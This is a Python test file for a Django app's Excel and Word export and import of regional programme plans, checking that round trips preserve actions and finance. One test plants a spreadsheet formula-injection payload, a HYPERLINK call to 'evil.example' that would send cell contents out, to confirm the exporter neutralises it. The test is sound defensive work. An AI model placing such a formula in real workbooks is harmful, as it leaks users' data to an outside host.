"""Export then import into an empty region gives the same programme, through Excel and Word."""

import pytest

from actions.planio.docx import read_document, write_document
from actions.planio.services import apply_plan, export_plan
from actions.planio.xlsx import read_workbook, write_workbook
from programmes.models import Programme
from tests.planio.helpers import bytes_io, empty_programme

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("slug", ["zaanstreek-waterland", "kennemerland", "zuid-holland-zuid"])
def test_workbook_round_trip_gives_the_same_programme(slug):
    source = Programme.objects.get(region__slug=slug)
    plan = export_plan(source)
    read, errors = read_workbook(bytes_io(write_workbook(plan, source.title)))
    assert errors == []
    target = empty_programme()
    apply_plan(target, read)
    assert export_plan(target).comparable() == plan.comparable()


@pytest.mark.parametrize("slug", ["zaanstreek-waterland", "kennemerland"])
def test_word_round_trip_gives_the_same_actions_milestones_and_finance(slug):
    source = Programme.objects.get(region__slug=slug)
    plan = export_plan(source)
    read, errors = read_document(bytes_io(write_document(source, plan)))
    assert errors == []
    target = empty_programme()
    apply_plan(target, read)
    again, expected = export_plan(target).comparable(), plan.comparable()
    for action in expected["actions"]:
        action["summary_title"] = ""  # the Word action table has no row for it
        action["building_blocks"] = ""  # nor for the national bouwstenen (the workbook has)
    assert again == expected


def test_a_formula_in_a_title_is_text_in_the_workbook_and_comes_back_unchanged():
    """A title starting with '=' is stored with the neutralising quote (a spreadsheet shows
    it as text) and read back without it, so the round trip still changes nothing."""
    from openpyxl import load_workbook

    source = Programme.objects.get(region__slug="zaanstreek-waterland")
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    action = source.actions.order_by("code").first()
    action.title = attack
    action.save(update_fields=["title"])
    plan = export_plan(source)
    content = write_workbook(plan, source.title)
    cells = [
        cell
        for sheet in load_workbook(bytes_io(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert not [c for c in cells if c.data_type == "f"]
    assert ("'" + attack, "s") in [(c.value, c.data_type) for c in cells]
    read, errors = read_workbook(bytes_io(content))
    assert errors == []
    assert attack in [a.title for a in read.actions]
    target = empty_programme()
    apply_plan(target, read)
    assert export_plan(target).comparable() == plan.comparable()
